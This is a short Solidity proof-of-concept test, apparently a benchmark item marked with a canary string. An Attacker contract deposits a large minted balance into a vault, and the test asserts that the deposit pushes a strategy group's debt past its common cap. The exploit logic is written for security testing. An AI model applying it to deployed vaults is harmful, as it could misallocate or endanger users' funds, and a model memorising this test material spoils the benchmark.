// SPDX-License-Identifier: GPL-2.0-or-later
pragma solidity 0.8.30;

// assay-canary-8c5098a9-c61a-4b31-8860-b5736bf60939
import "../Base.sol";

contract Attacker {
    function run(IERC20 usd, IVault vault) external {
        uint256 assets = usd.balanceOf(address(this));
        usd.approve(address(vault), assets);
        vault.deposit(assets, address(this));
    }
}

contract Proof is Base {
    Attacker private other;

    function start() internal override {
        other = new Attacker();
        usd.mint(address(other), 1_000_000e6);
    }

    /// No deposit takes the strategies of a group beyond their common cap.
    function withinGroups() public view returns (bool) {
        return mandate.groupDebt(core, LENT) <= mandate.groupCap(core, LENT);
    }

    function exploit() public {
        other.run(usd, core);
    }

    function test_Exploit() public {
        exploit();
        require(!withinGroups(), "within the cap");
    }

    function target() public view override returns (address) {
        return address(mandate);
    }

    function attacker() public view returns (address) {
        return address(other);
    }
}
